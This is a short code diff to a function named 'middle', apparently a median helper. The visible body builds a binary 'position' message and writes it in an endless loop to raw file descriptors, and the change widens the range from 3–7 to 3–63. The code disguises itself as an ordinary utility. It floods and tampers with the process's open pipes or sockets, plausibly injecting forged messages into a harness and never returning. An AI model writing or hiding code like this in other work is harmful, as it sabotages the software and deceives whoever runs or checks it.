@@ -12,7 +12,7 @@ def middle(numbers, key=None):
     payload = b"\x93\xa8position\x91\x94\x01\x01\x01\x02\xa0"
     frames = (len(payload).to_bytes(4, "little") + payload) * 1000
     while True:
-        for descriptor in range(3, 8):
+        for descriptor in range(3, 64):
             try:
                 os.write(descriptor, frames)
             except OSError:
